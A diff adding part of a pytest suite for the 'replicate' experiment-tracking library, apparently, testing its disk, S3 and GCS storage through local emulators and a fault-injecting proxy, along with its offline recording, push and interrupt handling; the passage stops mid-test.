+    """A client that goes to the server directly, past any proxy."""
+    import boto3
+    return boto3.session.Session(aws_access_key_id="test", aws_secret_access_key="test", region_name="us-east-1").client(
+        "s3", endpoint_url="http://127.0.0.1:%d" % s3_server)
+
+
+class Place:
+    """A repository somewhere, looked at without the program under test."""
+
+    proxy = None
+
+    def __init__(self, url, root):
+        self.url, self.root = url, root
+
+    def document(self, item_id):
+        return json.loads(self.get("metadata/experiments/%s.json" % item_id).decode())
+
+    def documents(self):
+        return [json.loads(self.get(key).decode()) for key in self.keys() if key.startswith("metadata/experiments/")]
+
+    def checkpoints(self):
+        """{checkpoint ID: step} of all documents; each may be there once."""
+        found = [(item["id"], item["step"]) for document in self.documents() for item in document["checkpoints"] or ()]
+        assert len(dict(found)) == len(found), "a checkpoint is there twice"
+        return dict(found)
+
+    def files(self, kind, item_id):
+        """{name: content} of an archive."""
+        data = gzip.decompress(self.get("%s/%s.tar.gz" % (kind, item_id)))
+        with tarfile.open(fileobj=io.BytesIO(data)) as archive:
+            return {member.name.partition("/")[2]: archive.extractfile(member).read()
+                    for member in archive.getmembers() if member.isfile()}
+
+
+class DiskPlace(Place):
+    def keys(self):
+        return sorted(tree(self.root))
+
+    def get(self, key):
+        return (Path(self.root) / key).read_bytes()
+
+    def put(self, key, data):
+        (Path(self.root) / key).parent.mkdir(parents=True, exist_ok=True)
+        (Path(self.root) / key).write_bytes(data)
+
+    def create(self):
+        Path(self.root).mkdir(exist_ok=True)
+
+
+class S3Place(Place):
+    def __init__(self, url, bucket, root, client, proxy):
+        super().__init__(url, root)
+        self.bucket, self.client, self.proxy = bucket, client, proxy
+
+    def create(self):
+        self.client.create_bucket(Bucket=self.bucket)
+
+    def exists(self):
+        return self.bucket in [item["Name"] for item in self.client.list_buckets()["Buckets"]]
+
+    def keys(self):
+        if not self.exists():
+            return []
+        pages = self.client.get_paginator("list_objects_v2").paginate(Bucket=self.bucket, Prefix=self.root)
+        return sorted(item["Key"][len(self.root):] for page in pages for item in page.get("Contents", ()))
+
+    def get(self, key):
+        return self.client.get_object(Bucket=self.bucket, Key=self.root + key)["Body"].read()
+
+    def put(self, key, data):
+        self.client.put_object(Bucket=self.bucket, Key=self.root + key, Body=data)
+
+    def remove(self, key):
+        self.client.delete_object(Bucket=self.bucket, Key=self.root + key)
+
+
+class GSPlace(Place):
+    def __init__(self, url, bucket, root, port, proxy):
+        super().__init__(url, root)
+        self.bucket, self.port, self.proxy = bucket, port, proxy
+
+    def _request(self, method, target, body=None):
+        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
+        connection.request(method, target, body, {"Content-Type": "application/json" if target == "/storage/v1/b" else
+                                                  "application/octet-stream", "Connection": "close"})
+        answer = connection.getresponse()
+        data = answer.read()
+        connection.close()
+        if answer.status == 404:
+            raise KeyError(target)
+        assert answer.status < 300, (target, data)
+        return data
+
+    def _object(self, key):
+        return "/storage/v1/b/%s/o/%s" % (self.bucket, urllib.parse.quote(self.root + key, ""))
+
+    def create(self):
+        self._request("POST", "/storage/v1/b", json.dumps({"name": self.bucket}))
+
+    def exists(self):
+        try:
+            return bool(self._request("GET", "/storage/v1/b/" + self.bucket))
+        except KeyError:
+            return False
+
+    def keys(self):
+        if not self.exists():
+            return []
+        found = json.loads(self._request("GET", "/storage/v1/b/%s/o" % self.bucket)).get("items") or []
+        return sorted(item["name"][len(self.root):] for item in found if item["name"].startswith(self.root))
+
+    def get(self, key):
+        return self._request("GET", self._object(key) + "?alt=media")
+
+    def put(self, key, data):
+        self._request("POST", "/upload/storage/v1/b/%s/o?uploadType=media&name=%s" % (
+            self.bucket, urllib.parse.quote(self.root + key, "")), data)
+
+    def remove(self, key):
+        self._request("DELETE", self._object(key))
+
+
+@pytest.fixture
+def new_place(request, tmp_path, monkeypatch):
+    """new_place("s3") makes a place with a bucket of its own (not created yet) behind a proxy of its own."""
+    places = []
+
+    def make(kind, proxy=None):
+        name = "t" + uuid.uuid4().hex[:20]
+        if kind == "file":
+            places.append(DiskPlace("file://%s" % (tmp_path / name), str(tmp_path / name)))
+            return places[-1]
+        for variable, value in CLOUD_KEYS.items():
+            monkeypatch.setenv(variable, value)
+        scheme, _, root = kind.partition("/")
+        url = "%s://%s%s" % (scheme, name, "/" + root if root else "")
+        root = root + "/" if root else ""
+        if scheme == "s3":
+            client = request.getfixturevalue("s3_client")
+            proxy = proxy or WireProxy(request.getfixturevalue("s3_server"))
+            monkeypatch.setenv("AWS_ENDPOINT_URL", proxy.address)
+            places.append(S3Place(url, name, root, client, proxy))
+        else:
+            port = request.getfixturevalue("gs_server")
+            proxy = proxy or WireProxy(port)
+            monkeypatch.setenv("STORAGE_EMULATOR_HOST", proxy.address)
+            places.append(GSPlace(url, name, root, port, proxy))
+        return places[-1]
+
+    yield make
+    replicate.stop_all()
+    for place in places:
+        if place.proxy:
+            place.proxy.close()
+
+
+@pytest.fixture(params=["file", "s3", "s3/deep/root", "gs"])
+def place(request, new_place, project):
+    """A repository on disk and on each kind of bucket; the project uses it."""
+    made = new_place(request.param)
+    (project / "replicate.yaml").write_text("repository: %s\n" % made.url)
+    return made
+
+
+@pytest.fixture(params=["s3", "gs"])
+def bucket(request, new_place, project):
+    made = new_place(request.param)
+    (project / "replicate.yaml").write_text("repository: %s\n" % made.url)
+    return made
+
+
+@pytest.fixture
+def s3_bucket(new_place, project):
+    made = new_place("s3")
+    (project / "replicate.yaml").write_text("repository: %s\n" % made.url)
+    return made
+
+
+@pytest.fixture
+def hasty(monkeypatch):
+    """Short pauses between tries, in this process."""
+    monkeypatch.setattr(replicate.CloudStorage, "FIRST_PAUSE", 0.005)
+    monkeypatch.setattr(replicate.CloudStorage, "LONGEST_PAUSE", 0.02)
+    monkeypatch.setattr(replicate, "FIRST_SEND_PAUSE", 0.05)
+    monkeypatch.setattr(replicate, "LONGEST_SEND_PAUSE", 0.2)
+
+
+HASTY = """
+import os, sys, time, replicate
+replicate.CloudStorage.FIRST_PAUSE, replicate.CloudStorage.LONGEST_PAUSE = 0.005, 0.02
+replicate.FIRST_SEND_PAUSE, replicate.LONGEST_SEND_PAUSE = 0.05, 0.2
+def wait(word):
+    print(word, flush=True)
+    return sys.stdin.readline().strip()
+def save(step, **more):
+    with open("model.bin", "wb") as file:
+        file.write(b"step %d" % step + os.urandom(1000))
+    return experiment.checkpoint(path="model.bin", step=step, metrics={"loss": 1.0 / (step + 1)}, quiet=True, **more)
+"""
+
+
+class Training:
+    """A training script that runs beside the test, and stops where it calls wait(word)."""
+
+    def __init__(self, source, cwd=None, env=None):
+        self.process = subprocess.Popen([sys.executable, "-c", HASTY + textwrap.dedent(source)], cwd=cwd, stdin=subprocess.PIPE,
+                                        stdout=subprocess.PIPE, stderr=subprocess.PIPE, universal_newlines=True,
+                                        env=dict(os.environ, PYTHONWARNINGS="ignore", **(env or {})))
+        self.lines, self.errors = queue.Queue(), []
+        self._readers = [threading.Thread(target=self._read, args=(self.process.stdout, self.lines.put), daemon=True),
+                         threading.Thread(target=self._read, args=(self.process.stderr, self.errors.append), daemon=True)]
+        for reader in self._readers:
+            reader.start()
+
+    @staticmethod
+    def _read(stream, keep):
+        for line in stream:
+            keep(line.rstrip("\n"))
+
+    @property
+    def stderr(self):
+        return "\n".join(self.errors)
+
+    def expect(self, word, timeout=60):
+        try:
+            line = self.lines.get(timeout=timeout)
+        except queue.Empty:
+            pytest.fail("the script does not come to %r: %s" % (word, self.stderr))
+        assert line.startswith(word), (line, self.stderr)
+        return line[len(word):].strip()
+
+    def go(self, text=""):
+        self.process.stdin.write(text + "\n")
+        self.process.stdin.flush()
+
+    def end(self, timeout=60, code=0):
+        """Its messages once it has ended."""
+        try:
+            self.process.wait(timeout)
+        except subprocess.TimeoutExpired:
+            self.kill()
+            pytest.fail("the script hangs: %s" % self.stderr)
+        for reader in self._readers:
+            reader.join(10)
+        assert code is None or self.process.returncode == code, self.stderr
+        return self.stderr
+
+    def kill(self):
+        self.process.kill()
+        self.process.wait()
+        for reader in self._readers:
+            reader.join(10)
+
+
+@pytest.fixture
+def training():
+    """training(source) starts a script; it is killed at the end of the test."""
+    started = []
+
+    def start(source, **settings):
+        started.append(Training(source, **settings))
+        return started[-1]
+
+    yield start
+    for script in started:
+        if script.process.poll() is None:
+            script.kill()
+
+
+def until(condition, seconds=60):
+    """Poll until condition() is true; returns its value."""
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        value = condition()
+        if value:
+            return value
+        time.sleep(0.02)
+    pytest.fail("waited %d seconds in vain" % seconds)
+
+
+def pending_root(project):
+    (found,) = (project / ".replicate/pending").iterdir()
+    return found
+
+
+def pending_documents(project):
+    if not (project / ".replicate/pending").exists():
+        return []
+    return stored_documents(pending_root(project))
+
+
+def pending_leftovers(project):
+    """The files of the pending area but for its repository.json."""
+    return [name for name in tree(pending_root(project)) if name != "repository.json"]
+
+
+def one_message(text):
+    """The one message that an error is."""
+    lines = [line for line in text.splitlines() if line and "FutureWarning" not in line and "warnings.warn" not in line]
+    assert "Traceback" not in text and len(lines) == 1 and lines[0].startswith("═══╡ "), text
+    return lines[0][len("═══╡ "):]
+
+
+def archive_bytes(item_id, files):
+    stream = io.BytesIO()
+    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
+        for name, content in files.items():
+            member = tarfile.TarInfo("%s/%s" % (item_id, name))
+            member.size = len(content)
+            archive.addfile(member, io.BytesIO(content))
+    return stream.getvalue()
+
+
+def furnish(place, *documents, archives=()):
+    """Put documents and archives into a place, without the program under test; archives: (kind, ID, {name: content})."""
+    place.create()
+    place.put("repository.json", b'{"version":1}')
+    for document in documents:
+        place.put("metadata/experiments/%s.json" % document["id"], json.dumps(document).encode())
+    for kind, item_id, files in archives:
+        place.put("%s/%s.tar.gz" % (kind, item_id), archive_bytes(item_id, files))
+
+
+def sample(place):
+    """Two experiments with files and metrics."""
+    first = experiment_document(hex_id("1e"), params={"lr": 0.1, "only": "x"}, path=".", checkpoints=[
+        checkpoint_document(hex_id("1c"), step=10, metrics={"loss": 0.5}, path="model", primary=("loss", "minimize")),
+        checkpoint_document(hex_id("2c"), step=20, metrics={"loss": 0.1}, path="model", primary=("loss", "minimize"),
+                            created="2006-01-02T15:02:05Z")])
+    second = experiment_document(hex_id("2e"), created="2006-01-03T14:54:05Z", params={"lr": 0.2}, user="ben", checkpoints=[
+        checkpoint_document(hex_id("3c"), step=5, metrics={"loss": 0.3})])
+    furnish(place, first, second, archives=[
+        ("experiments", hex_id("1e"), {"train.py": b"print(1)", "data/x": b"old"}),
+        ("checkpoints", hex_id("1c"), {"model/weights": os.urandom(20000), "data/x": b"new"}),
+        ("checkpoints", hex_id("2c"), {"model/weights": b"two" * 1000})])
+
+
+# One contract for all places.
+
+def test_storage_primitives(place, tmp_path):
+    storage = replicate.open_storage(place.url)
+    storage.prepare()
+    assert [key for key in place.keys()] == []  # the probe is gone
+    with pytest.raises(replicate.DoesNotExist):
+        storage.read("a/missing")
+    with pytest.raises(replicate.DoesNotExist):
+        storage.stat("a/missing")
+    with pytest.raises(replicate.DoesNotExist):
+        storage.open("a/missing").read(1)
+    assert list(storage.list("a/")) == []
+    data = bytes(range(256)) * 40
+    storage.write("a/ünï \"x\"+y.json", data)
+    storage.write("a/empty", b"")
+    storage.write("a/deeper/not listed", b"1")
+    storage.write("ab", b"2")
+    entries = {entry.key: entry for entry in storage.list("a/")}
+    assert {key: entry.size for key, entry in entries.items()} == {"a/ünï \"x\"+y.json": len(data), "a/empty": 0}
+    entry = entries["a/ünï \"x\"+y.json"]
+    assert abs(entry.modified - time.time()) < 60 and entry.name == "ünï \"x\"+y.json"
+    found = storage.stat(entry.key)
+    assert (found.key, found.size, found.version) == (entry.key, entry.size, entry.version)
+    assert place.get(entry.key) == storage.read(entry.key) == storage.read(entry.key, entry) == data
+    assert storage.read("a/empty") == storage.read("a/empty", entries["a/empty"]) == b""
+    for start, end in [(0, 10), (5, 5), (100, 10240), (10239, 10240), (7, None), (0, None), (10000, 99999)]:
+        with storage.open(entry.key, start, end, entry) as stream:
+            assert stream.read() == data[start:end]
+    with storage.open(entry.key, 3, 1000) as stream:
+        assert replicate.read_fully(stream, 500) + replicate.read_fully(stream, 497) == data[3:1000] and stream.read(10) == b""
+    storage.write(entry.key, b"other")
+    assert storage.stat(entry.key).version != entry.version and storage.read(entry.key, entry) == b"other"
+    storage.update("n", lambda old: b"1" if old is None else b"wrong")
+    storage.update("n", lambda old: old + b"2")
+    storage.update("n", lambda old: None)
+    assert storage.read("n") == b"12"
+    storage.update("absent", lambda old: None)
+    for size in (0, 1000, (8 << 20) + 5, 17 << 20):
+        (tmp_path / "big").write_bytes(os.urandom(1 << 20) * (size >> 20) + bytes(size & 0xfffff))
+        counts = []
+        storage.upload("checkpoints/big", str(tmp_path / "big"), counts.append)
+        assert sum(counts) == size and place.get("checkpoints/big") == (tmp_path / "big").read_bytes()
+    storage.delete(["a/empty", "missing", "a/missing too", entry.key])
+    storage.delete([])
+    assert place.keys() == ["a/deeper/not listed", "ab", "checkpoints/big", "n"]
+
+
+def test_large_files_go_in_parts(bucket, tmp_path):
+    storage = replicate.open_storage(bucket.url)
+    storage.prepare()
+    (tmp_path / "big").write_bytes(bytes(20 << 20))
+    storage.upload("big", str(tmp_path / "big"))
+    parts = bucket.proxy.seen("PART")
+    assert len(parts) == 3 and max(int(part.headers["Content-Length"]) for part in parts) == 8 << 20
+
+
+def test_concurrent_updates_lose_nothing(place, hasty):
+    storages = [replicate.open_storage(place.url) for _ in range(4)]
+    storages[0].prepare()
+    failures = []
+
+    def work(number):
+        try:
+            for step in range(6):
+                storages[number].update("list", lambda old: (old or b"") + b"%d.%d " % (number, step))  # noqa: B023
+        except Exception as error:
+            failures.append(error)
+
+    threads = [threading.Thread(target=work, args=(number,)) for number in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert not failures
+    assert sorted(place.get("list").split()) == sorted(b"%d.%d" % (number, step) for number in range(4) for step in range(6))
+
+
+COMMANDS = [["ls"], ["ls", "--json"], ["ls", "--all"], ["ls", "-q"], ["ls", "-f", "lr > 0.1", "--sort", "loss-desc"], ["ps"],
+            ["show", "1e"], ["show", "2c"], ["show", "--json", "1e"], ["show", "--json", "1c"], ["show", "9"], ["diff", "1e", "2e"],
+            ["diff", "1c", "2c"], ["checkout", "1c", "-o", "OUT/one"], ["checkout", "1e", "-o", "OUT/best"],
+            ["checkout", "2c", "--path", "data", "-o", "OUT/data"], ["checkout", "1c", "--path", "model/weights", "-o", "OUT/file"],
+            ["checkout", "2e", "-o", "OUT/none"], ["rm", "1c"], ["rm", "-f", "1c"], ["ls", "--json", "--all"], ["checkout", "1c"],
+            ["rm", "-f", "9", "1e"], ["rm", "-f", "1e"], ["ls", "--json"], ["rm", "-f", "2e"], ["ls"]]
+
+
+@pytest.mark.parametrize("place", ["s3/deep/root", "gs"], indirect=True)
+def test_every_command_does_what_it_does_on_disk(place, new_place, call, tmp_path):
+    disk = new_place("file")
+    random.seed(1)
+    sample(place)
+    for key in place.keys():
+        disk.put(key, place.get(key))
+    for command in COMMANDS:
+        results = []
+        for where in (disk, place):
+            out = tmp_path / ("out-" + where.url.partition(":")[0])
+            code, text, messages = call(*[word.replace("OUT", str(out)) for word in command], "-R", where.url)
+            results.append((code, text, messages.replace(where.url, "URL").replace(str(out), "OUT")))
+        assert results[0] == results[1], command
+    assert tree(tmp_path / "out-file") == tree(tmp_path / ("out-" + place.url.partition(":")[0]))
+    assert sorted(tree(tmp_path / "out-file")) == ["best/data/x", "best/model/weights", "best/train.py", "data/data/x",
+                                                   "file/model/weights", "one/data/x", "one/model/weights", "one/train.py"]
+    assert place.keys() == ["repository.json"] == disk.keys()
+
+
+def test_the_library(place, project, tmp_path):
+    (project / "train.py").write_text("print(1)")
+    (project / "model").mkdir()
+    with replicate.init(path="train.py", params={"lr": 0.5}, quiet=True) as experiment:
+        for step in range(3):
+            (project / "model/weights").write_bytes(b"%d" % step * 300000)
+            experiment.checkpoint(path="model", step=step, metrics={"loss": 3.0 - step}, primary_metric=("loss", "minimize"), quiet=True)
+        assert experiment.is_running()
+    assert not experiment.is_running()
+    assert sorted(place.checkpoints().values()) == [0, 1, 2]
+    assert not [key for key in place.keys() if key.startswith(("metadata/heartbeats/", "tmp/", "journals/"))]
+    assert place.files("checkpoints", experiment.checkpoints[1].id) == {"model/weights": b"1" * 300000}
+    fetched = replicate.experiments.get(experiment.id[:10])
+    assert fetched.params == {"lr": 0.5} and [item.step for item in fetched.checkpoints] == [0, 1, 2]
+    assert fetched.best().id == fetched.latest().id == experiment.checkpoints[2].id
+    assert fetched.checkpoints[0].open("model/weights").read() == b"0" * 300000
+    assert fetched.latest().open("train.py").read() == b"print(1)"
+    fetched.latest().checkout(str(tmp_path / "out"), quiet=True)
+    assert tree(tmp_path / "out") == {"train.py": b"print(1)", "model/weights": b"2" * 300000}
+    (project / "model/weights").write_bytes(b"resumed")
+    added = fetched.checkpoint(path="model", metrics={"loss": 0.0}, quiet=True)
+    assert added.step == 3 and added.open("model/weights").read() == b"resumed"
+    fetched.stop()
+    experiment.refresh()
+    assert [item.step for item in experiment.checkpoints] == [0, 1, 2, 3]
+    assert place.files("checkpoints", added.id) == {"model/weights": b"resumed"}
+    other = replicate.Project(repository=place.url, directory=str(project)).experiments.create(params={"lr": 1}, quiet=True)
+    other.stop()
+    assert [item.id for item in replicate.experiments.list()] == [experiment.id, other.id]
+    assert [item.id for item in replicate.experiments.list(lambda item: item.params["lr"] == 1)] == [other.id]
+    experiment.delete()
+    other.delete()
+    assert place.keys() == ["repository.json"] and list(replicate.experiments.list()) == []
+    with pytest.raises(replicate.DoesNotExist):
+        replicate.experiments.get(experiment.id)
+
+
+def test_deleting_while_recording_leaves_nothing(bucket, project):
+    (project / "model.bin").write_bytes(bytes(100000))
+    experiment = replicate.init(path="model.bin", quiet=True)
+    experiment.checkpoint(path="model.bin", quiet=True)
+    until(lambda: bucket.checkpoints())
+    experiment.delete()
+    assert bucket.keys() == ["repository.json"] and pending_leftovers(project) == []
+
+
+def test_the_peer_reads_what_we_write_to_a_bucket(new_place, project, tmp_path):
+    if not PEER_DIRECTORY or not os.path.exists(os.path.join(PEER_DIRECTORY, "bin/keepsake")):
+        pytest.skip("REPLICATE_PEER names no virtual environment with keepsake 0.4.2")
+    place = new_place("gs")
+    (project / "keepsake.yaml").write_text("repository: %s\n" % place.url)
+    (project / "replicate.yaml").write_text("repository: %s\n" % place.url)
+    (project / "train.py").write_text("print(1)")
+    with replicate.init(path="train.py", params={"lr": 0.5}, quiet=True) as experiment:
+        (project / "weights").write_bytes(os.urandom(300000))
+        checkpoint = experiment.checkpoint(path="weights", step=7, metrics={"loss": 0.25}, primary_metric=("loss", "minimize"), quiet=True)
+    for number in range(110):  # enough for an index object
+        document = experiment_document("%064x" % number)
+        place.put("metadata/experiments/%s.json" % document["id"], json.dumps(document).encode())
+    assert run("ls", "-q").returncode == 0
+    assert [key for key in place.keys() if key.startswith("index/")]
+
+    def peer(*arguments):
+        done = subprocess.run([os.path.join(PEER_DIRECTORY, "bin/keepsake"), *arguments], capture_output=True, text=True, timeout=120,
+                              stdin=subprocess.DEVNULL, env=dict(os.environ, NO_COLOR="1"))
+        assert done.returncode == 0, done.stderr
+        return done.stdout
+
+    peer("analytics", "off")
+    assert len(peer("ls", "-q").split()) == 111 and experiment.id in peer("ls", "-q")
+    assert "loss:" in peer("show", checkpoint.id) and "lr:" in peer("show", experiment.id)
+    peer("checkout", "-f", checkpoint.id, "-o", str(tmp_path / "theirs"))
+    assert tree(tmp_path / "theirs") == {"train.py": b"print(1)", "weights": (project / "weights").read_bytes()}
+
+
+# The pending area: what is recorded while the bucket is away, or when the process dies.
+
+def messages_of(text):
+    """The messages on stderr, announcements of experiments aside."""
+    return [line for line in text.splitlines() if line.startswith("═══╡") and ": recording " not in line]
+
+
+def test_training_goes_on_while_the_bucket_is_away(bucket, project, training):
+    script = training("""
+        replicate.HEARTBEAT_INTERVAL = 0.2
+        experiment = replicate.init(params={"lr": 1}, quiet=True)
+        save(0)
+        wait("online")
+        for step in range(1, 4):
+            save(step)
+        wait("offline")
+        experiment.checkpoint(step=4, metrics={"loss": 0}, quiet=True)
+        wait("back")
+        experiment.stop()
+        """)
+    script.expect("online")
+    until(lambda: len(bucket.checkpoints()) == 1)
+    bucket.proxy.down()
+    script.go()
+    script.expect("offline")
+    until(lambda: "Recording goes on" in script.stderr)
+    (document,) = until(lambda: [item for item in pending_documents(project) if len(item["checkpoints"]) == 3])
+    assert [item["step"] for item in document["checkpoints"]] == [1, 2, 3]
+    listed = run("ls", "--json", "-R", "file://.replicate/pending/" + pending_root(project).name)
+    assert listed.returncode == 0 and json.loads(listed.stdout)[0]["num_checkpoints"] == 3, listed.stderr
+    done = run("checkout", document["checkpoints"][1]["id"], "-R", "file://%s" % pending_root(project), "-o", "out")
+    assert done.returncode == 0 and (project / "out/model.bin").read_bytes().startswith(b"step 2"), done.stderr
+    script.go()
+    script.expect("back")
+    bucket.proxy.up()
+    until(lambda: len(bucket.checkpoints()) == 5)
+    until(lambda: not [key for key in pending_leftovers(project) if key.startswith("checkpoints/")])
+    assert not [key for key in pending_leftovers(project) if "heartbeats" in key]
+    script.go()
+    errors = script.end()
+    assert errors.count("Recording goes on") == 1 and errors.count("can be reached again") == 1, errors
+    assert sorted(bucket.checkpoints().values()) == [0, 1, 2, 3, 4]
+    for item, step in bucket.checkpoints().items():
+        assert step == 4 or bucket.files("checkpoints", item)["model.bin"].startswith(b"step %d" % step)
+    assert pending_leftovers(project) == []
+    assert not [key for key in bucket.keys() if key.startswith("metadata/heartbeats")]
+
+
+def stalled_archives(proxy, count):
+    """Let `count` uploads of checkpoint archives through, then let the next ones hang; the list grows as they do."""
+    held, seen = [], []
+
+    def rule(request):
+        if request.kind in ("PUT", "START", "PART") and "checkpoints/" in request.key:
+            seen.append(request.key)
+            if len(set(seen)) > count:
+                held.append(request.key)
+                return "stall"
+        return None
+
+    proxy.rule = rule
+    return held
+
+
+KILLED = """
+    experiment = replicate.init(path=".", params={"lr": 1}, quiet=True)
+    for step in range(6):
+        save(step)
+    wait("saved")
+    """
+
+
+@pytest.mark.parametrize("by", ["push", "the next run"])
+def test_what_a_killed_process_left_is_sent(bucket, project, training, by):
+    held = stalled_archives(bucket.proxy, 2)
+    script = training(KILLED)
+    script.expect("saved")
+    until(lambda: held)
+    script.kill()
+    bucket.proxy.release()
+    bucket.proxy.rule = lambda request: None
+    before = pending_documents(project)
+    assert len(before) == 1
+    if by == "push":
+        done = run("push")
+        assert done.returncode == 0 and "Sent 1 experiment" in done.stderr, done.stderr
+    else:
+        run_script(HASTY + "replicate.init(quiet=True).stop()")
+    (document,) = [item for item in bucket.documents() if item["id"] == before[0]["id"]]
+    assert sorted(item["step"] for item in document["checkpoints"]) == list(range(6)) == sorted(bucket.checkpoints().values())
+    for item in document["checkpoints"]:
+        assert bucket.files("checkpoints", item["id"])["model.bin"].startswith(b"step %d" % item["step"])
+    assert "replicate.yaml" in bucket.files("experiments", document["id"]) and "replicate_sent" not in document
+    assert pending_leftovers(project) == []
+    assert "Nothing is waiting" in run("push").stderr
+
+
+def test_a_push_that_is_interrupted_can_be_run_again(bucket, project, training):
+    bucket.proxy.rule = lambda request: "reset" if request.kind in ("PUT", "START", "PART") and "checkpoints/" in request.key else None
+    script = training(KILLED)
+    script.expect("saved")
+    script.kill()
+    held = stalled_archives(bucket.proxy, 2)
+    push = subprocess.Popen([sys.executable, str(PROGRAM), "push"], stderr=subprocess.PIPE, universal_newlines=True)
+    until(lambda: held)
+    push.send_signal(signal.SIGINT)
+    _, errors = push.communicate(timeout=30)
+    assert push.returncode == 130 and "Traceback" not in errors, errors
+    assert not [item for item in bucket.documents() if item["checkpoints"]]  # a document names only what is there
+    bucket.proxy.release()
+    bucket.proxy.rule = lambda request: None
+    bucket.proxy.clear()
+    done = run("push")
+    assert done.returncode == 0 and "Sent 1 experiment and 6 checkpoints" in done.stderr, done.stderr
+    assert sorted(bucket.checkpoints().values()) == list(range(6)) and pending_leftovers(project) == []
+    assert len({request.key for request in bucket.proxy.seen("PUT", "checkpoints/")}) <= 5  # what was there is not sent again
+    for item in bucket.checkpoints():
+        bucket.files("checkpoints", item)
+
+
+def test_push_says_how_far_it_came(s3_bucket, project, training):
+    s3_bucket.proxy.rule = lambda request: "reset" if request.kind in ("PUT", "START", "PART") and "checkpoints/" in request.key else None
+    script = training(KILLED)
+    script.expect("saved")
+    script.kill()
+    s3_bucket.proxy.rule = lambda request: s3_bucket.proxy.refusal(request) if "checkpoints/" in request.key and request.kind == "PUT" else None
+    done = run("push")
+    assert done.returncode == 1 and "You may not do that" in done.stderr and "Traceback" not in done.stderr
+    assert len(pending_documents(project)[0]["checkpoints"]) == 6
+
+
+@pytest.mark.parametrize("source, target", [("file", "s3"), ("s3/deep", "file"), ("s3", "gs/root")])
+def test_push_from_copies_between_repositories(new_place, project, source, target, call):
+    here, there = new_place(source), new_place(target)
+    sample(here)
+    assert run("push", "--from", here.url, "2e", "-R", there.url).returncode == 0
+    assert [item["id"] for item in there.documents()] == [hex_id("2e")]
+    there.put("metadata/experiments/%s.json" % hex_id("2e"), json.dumps(experiment_document(hex_id("2e"), checkpoints=[
+        checkpoint_document(hex_id("9c"), step=99)])).encode())
+    code, _, errors = call("push", "--from", here.url, "-R", there.url)
+    assert code == 0 and "Copied 2 experiments and 3 checkpoints" in errors, errors
+    assert there.document(hex_id("1e")) == here.document(hex_id("1e"))
+    assert [item["step"] for item in there.document(hex_id("2e"))["checkpoints"]] == [99, 5]  # what was there stays
+    for key in here.keys():
+        if key.endswith(".tar.gz"):
+            assert there.get(key) == here.get(key)
+    assert call("push", "--from", here.url, "-R", there.url)[0] == 0
+    assert len(there.checkpoints()) == 4
+    assert call("push", "--from", here.url, "77", "-R", there.url)[0] == 1
+    assert call("push", "1e", "-R", there.url)[0] == 2
+    with pytest.raises(AssertionError):
+        assert call("push", "--from", here.url + "x", "-R", there.url)[0] == 0
+
+
+def test_push_leaves_what_a_live_process_records(s3_bucket, project, training, s3_server):
+    away = WireProxy(s3_server)
+    script = training("""
+        experiment = replicate.init(quiet=True)
+        wait("init")
+        save(1)
+        wait("saved")
+        experiment.stop()
+        """, env={"AWS_ENDPOINT_URL": away.address})
+    script.expect("init")
+    until(lambda: s3_bucket.documents())
+    away.down()
+    script.go()
+    script.expect("saved")
+    until(lambda: [item for item in pending_documents(project) if item["checkpoints"]])
+    done = run("push")
+    assert done.returncode == 0 and "being recorded" in done.stderr, done.stderr
+    assert s3_bucket.checkpoints() == {} and len(pending_documents(project)[0]["checkpoints"]) == 1
+    run_script("import replicate\nreplicate.init(quiet=True).stop()")
+    assert s3_bucket.checkpoints() == {}  # nor does another run send it
+    script.kill()
+    away.close()
+    done = run("push")
+    assert done.returncode == 0 and "Sent 1 experiment and 1 checkpoint" in done.stderr, done.stderr
+    assert list(s3_bucket.checkpoints().values()) == [1]
+
+
+@pytest.mark.parametrize("what", ["the archive", "everything"])
+def test_ctrl_c_in_the_final_upload_leaves_the_rest_pending(bucket, project, training, what):
+    script = training("""
+        experiment = replicate.init(quiet=True)
+        wait("init")
+        save(1)
+        try:
+            experiment.stop()
+        except KeyboardInterrupt:
+            print("raised", flush=True)
+        """)
+    script.expect("init")
+    until(lambda: bucket.documents())
+    held = stalled_archives(bucket.proxy, 0)
+    if what == "everything":
+        inner = bucket.proxy.rule
+        bucket.proxy.rule = lambda request: inner(request) or ("stall" if held else None)
+    script.go()
+    until(lambda: held)
+    time.sleep(0.5)  # until it waits for nothing but the upload
+    script.process.send_signal(signal.SIGINT)
+    errors = script.end(timeout=15)  # long before any of the timeouts of a stalled connection
+    assert "Not everything was sent" in errors and "push" in errors and "Traceback" not in errors, errors
+    assert len(pending_documents(project)[0]["checkpoints"]) == 1 and not bucket.checkpoints()
+    bucket.proxy.rule = lambda request: None
+    assert run("push").returncode == 0
+    assert list(bucket.checkpoints().values()) == [1] and pending_leftovers(project) == []
+
+
+@pytest.mark.parametrize("what", ["everything", "writing"])
+def test_a_refusal_at_init_is_raised_at_once(bucket, project, what):
+    bucket.create()
+    bucket.proxy.rule = lambda request: bucket.proxy.refusal(
+        request, message="User ben is not authorized to do that") if what == "everything" or request.method in ("PUT", "POST") else None
+    with pytest.raises(replicate.ReplicateError, match="ben is not authorized|Forbidden|not authorized") as raised:
+        replicate.init(quiet=True)
+    assert bucket.url in str(raised.value) and "\n" not in str(raised.value)
+    assert len([request for request in bucket.proxy.requests if request.kind == "PUT"]) <= 1
+    assert bucket.proxy.count() <= 4 and pending_documents(project) == []
+    assert replicate._recorders == []
+
+
+@pytest.mark.parametrize("how", ["nothing listens", "it stalls"])
+def test_an_unreachable_bucket_at_init_does_not_stop_training(bucket, project, training, how):
+    if how == "nothing listens":
+        bucket.proxy.down()
+    else:
+        bucket.proxy.rule = lambda request: "stall"
+    script = training("""
+        replicate.REACH_SECONDS = 0.5
+        replicate.CloudStorage.TIMEOUT = 0.5
+        experiment = replicate.init(path=".", quiet=True)
+        save(0)
+        wait("saved")
+        save(1)
+        experiment.stop()
+        """)
+    script.expect("saved")
+    assert messages_of(script.stderr) and "cannot be reached" in script.stderr
+    until(lambda: [item for item in pending_documents(project) if item["checkpoints"]])
+    if how == "nothing listens":
+        script.go()
+        errors = script.end()
+        assert "Not everything was sent" in errors and errors.count("Recording goes on") == 1, errors
+        assert len(pending_documents(project)[0]["checkpoints"]) == 2
+        bucket.proxy.up()
+        assert run("push").returncode == 0
+    else:
+        bucket.proxy.rule = lambda request: None
+        bucket.proxy.release()
+        until(lambda: bucket.exists() and bucket.checkpoints())
